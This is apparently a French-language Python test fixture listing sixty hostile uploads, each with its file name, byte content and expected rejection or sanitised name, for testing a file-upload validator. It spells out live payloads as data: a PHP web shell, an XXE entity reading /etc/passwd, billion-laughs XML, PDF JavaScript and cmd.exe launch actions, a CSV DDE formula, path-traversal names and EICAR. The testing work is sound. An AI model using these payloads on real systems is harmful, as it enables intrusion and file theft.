"""Soixante fichiers hostiles : le nom sous lequel on les envoie, leur contenu, et ce qui doit en advenir."""

from collections.abc import Callable
from typing import NamedTuple

from tests.fabriques.fichiers import PDF
from tests.socle.corpus import archives, images, pdf

# Le fichier d'essai de tous les antivirus. Écrit d'un seul tenant, il ferait sonner ceux qui lisent le dépôt.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}" + b"$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
PROGRAMME = b"MZ\x90\x00" + bytes(60)
HTML = b"<!DOCTYPE html><script>alert(1)</script>"
PHP = b"<?php system($_GET['c']); ?>"
XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
RIRES = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'

TYPE = "n'est pas d'un type admis"
CONTENU = "n'a pas le contenu que son extension"
SUITE = "ne finit pas comme un PDF"
BOMBE = "prend une place démesurée"
PAS_UNE_IMAGE = "contient autre chose qu'une image"
ABIME = "est abîmé"


class Hostile(NamedTuple):
    """`raison` : un fragment de la phrase de refus ; vide, le fichier est neutralisé et gardé sous le nom `devient`."""

    numero: int
    sujet: str
    nom: str
    faire: Callable[[], bytes]
    raison: str = ""
    devient: str = ""


def _pdf() -> bytes:
    return PDF


HOSTILES = [
    # Noms
    Hostile(1, "traversée", "../../..\\..\\etc/passwd.pdf", _pdf, devient="passwd.pdf"),
    Hostile(2, "caractère nul", "a.exe\x00.pdf", _pdf, devient="a.exe.pdf"),
    Hostile(3, "sens d'écriture", "fdp.\u202eexe\u200b.pdf", _pdf, devient="fdp.exe.pdf"),
    Hostile(4, "nom réservé", "CON.pdf", _pdf, devient="_CON.pdf"),
    Hostile(5, "cinq cents signes, saut de ligne", "a\r\n" + "a" * 496 + ".pdf", _pdf, devient="a" * 116 + ".pdf"),
    Hostile(6, "guillemets, émoji", "\"a'; 😀<b>.pdf", _pdf, devient="a'; 😀b.pdf"),
    # Extensions
    Hostile(7, "programme", "facture.pdf.exe", lambda: PROGRAMME, TYPE),
    Hostile(8, "double extension d'un vrai PDF", "facture.exe.pdf", _pdf, devient="facture.exe.pdf"),
    Hostile(9, "programme nommé PDF", "facture.pdf", lambda: PROGRAMME, CONTENU),
    Hostile(10, "PNG nommé JPEG", "photo.jpg", lambda: images.image("PNG"), CONTENU),
    Hostile(11, "vide", "statuts.pdf", lambda: b"", "est vide"),
    Hostile(12, "sans extension", "statuts", _pdf, TYPE),
    # Deux fichiers en un
    Hostile(13, "PDF et HTML", "statuts.pdf", lambda: PDF + HTML, SUITE),
    Hostile(14, "PDF et ZIP", "statuts.pdf", lambda: PDF + archives.archive({"a.txt": "x"}), SUITE),
    Hostile(
        15,
        "ZIP dans un PDF, les deux entiers",
        "statuts.pdf",
        lambda: pdf.archive_dans_le_pdf(archives.archive({"a.exe": PROGRAMME})),
        "à la fois un PDF et une archive",
    ),
    Hostile(16, "GIF et script", "logo.png", lambda: b"GIF89a/*" + HTML + b"*/=1", CONTENU),
    Hostile(17, "JPEG et PHP", "photo.jpg", lambda: images.image("JPEG") + PHP, PAS_UNE_IMAGE),
    Hostile(
        18,
        "JPEG et ZIP",
        "photo.jpg",
        lambda: images.photo_double() + archives.archive({"a.exe": PROGRAMME}),
        PAS_UNE_IMAGE,
    ),
    Hostile(19, "PDF après autre chose", "statuts.pdf", lambda: HTML + PDF, CONTENU),
    Hostile(20, "PNG et HTML", "photo.png", lambda: images.image("PNG") + HTML, PAS_UNE_IMAGE),
    # Pages
    Hostile(21, "HTML", "page.html", lambda: HTML, TYPE),
    Hostile(22, "SVG", "dessin.svg", lambda: SVG, TYPE),
    Hostile(23, "XHTML nommé PDF", "page.pdf", lambda: b'<?xml version="1.0"?>' + HTML, CONTENU),
    Hostile(24, "XML et sa feuille de style", "a.xml", lambda: b'<?xml-stylesheet href="x.xsl"?><a/>', TYPE),
    Hostile(25, "page enregistrée", "page.mht", lambda: b"MIME-Version: 1.0\r\n\r\n" + HTML, TYPE),
    Hostile(26, "raccourci", "site.url", lambda: b"[InternetShortcut]\r\nURL=https://mal.example/\r\n", TYPE),
    # Archives
    Hostile(27, "bombe plate", "projet.docx", archives.bombe_plate, BOMBE),
    Hostile(28, "poupées russes", "projet.docx", archives.poupees_russes, BOMBE),
    Hostile(29, "entrées superposées", "projet.docx", archives.entrees_superposees, BOMBE),
    Hostile(30, "archive qui se contient", "projet.docx", archives.quine, BOMBE),
    Hostile(31, "cent mille entrées", "projet.docx", archives.cent_mille_entrees, BOMBE),
    Hostile(32, "lien symbolique", "projet.docx", archives.lien_symbolique, ABIME),
    Hostile(33, "texte de trente mégaoctets d'espaces", "projet.docx", archives.bombe_dans_le_texte, BOMBE),
    # XML
    Hostile(34, "entité externe, Word", "a.docx", lambda: archives.docx({"word/styles.xml": XXE}), "définitions XML"),
    Hostile(35, "entité externe, Excel", "a.xlsx", lambda: archives.xlsx_avec({"xl/x.xml": XXE}), "définitions XML"),
    Hostile(36, "entité externe, SVG nommé PNG", "a.png", lambda: XXE.encode(), CONTENU),
    Hostile(
        37,
        "rires par milliards",
        "a.odt",
        lambda: archives.opendocument("text", entrees={"styles.xml": RIRES}),
        "définitions XML",
    ),
    Hostile(
        38,
        "modèle distant",
        "a.docx",
        lambda: archives.docx(
            {
                "word/_rels/settings.xml.rels": archives.relations(
                    ("attachedTemplate", "https://mal.example/a.dotm", True)
                )
            }
        ),
        "sur un autre ordinateur",
    ),
    # PDF
    Hostile(
        39,
        "programme à l'ouverture",
        "a.pdf",
        lambda: pdf.avec(catalogue=b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"),
        "contient un programme",
    ),
    Hostile(
        40,
        "lancement",
        "a.pdf",
        lambda: pdf.avec(catalogue=b"/OpenAction<</S/Launch/F(cmd.exe)>>"),
        "ouvre un programme",
    ),
    Hostile(41, "programme joint", "a.pdf", lambda: pdf.joint(b"a.exe", PROGRAMME), "contient un autre fichier"),
    Hostile(42, "lien", "a.pdf", lambda: pdf.liens(b"https://mal.example/"), devient="a.pdf"),
    Hostile(43, "mot de passe", "a.pdf", lambda: pdf.protege("secret"), "protégé par un mot de passe"),
    Hostile(44, "table fausse", "a.pdf", pdf.table_fausse, ABIME),
    Hostile(45, "cent mille pages", "a.pdf", lambda: pdf.de_pages(100_000), "structure démesurée"),
    Hostile(46, "pages qui se contiennent", "a.pdf", pdf.recursif, ABIME),
    # Images
    Hostile(47, "PNG immense", "a.png", images.png_immense, "trop grande"),
    Hostile(48, "TIFF immense", "a.tiff", lambda: b"II*\x00" + bytes(64), TYPE),
    Hostile(49, "JPEG 2000", "a.jpg", lambda: b"\x00\x00\x00\x0cjP  \r\n\x87\n" + bytes(64), CONTENU),
    Hostile(50, "image coupée", "a.jpg", lambda: images.image("JPEG")[:-200], "incomplète"),
    # Macros et objets
    Hostile(51, "classeur à macros", "a.xlsm", archives.xlsx, TYPE),
    Hostile(52, "macros renommées", "a.docx", lambda: archives.docx({"word/vbaProject.bin": b"x"}), "des macros"),
    Hostile(53, "objet OLE", "a.docx", lambda: archives.docx({"word/embeddings/oleObject1.bin": b"x"}), "OLE"),
    Hostile(54, "formule dans un CSV", "a.csv", lambda: b"=cmd|'/C calc'!A0\r\n", TYPE),
    # Ce qu'un antivirus reconnaîtrait
    Hostile(55, "EICAR", "eicar.com", lambda: EICAR, TYPE),
    Hostile(56, "EICAR dans un ZIP", "a.zip", lambda: archives.archive({"eicar.com": EICAR}), TYPE),
    Hostile(
        57,
        "EICAR dans un ZIP dans un document",
        "a.docx",
        lambda: archives.docx({"word/a.bin": archives.archive({"eicar.com": EICAR})}),
        "contient un autre fichier",
    ),
    Hostile(
        58,
        "EICAR dans un document",
        "a.docx",
        lambda: archives.docx({"word/media/eicar.com": EICAR}),
        "contient un autre fichier",
    ),
    Hostile(59, "EICAR joint à un PDF", "a.pdf", lambda: pdf.joint(b"eicar.com", EICAR), "contient un autre fichier"),
    Hostile(60, "ZIP protégé nommé Word", "a.docx", lambda: archives.zip_protege(EICAR), "protégé par un mot de passe"),
]
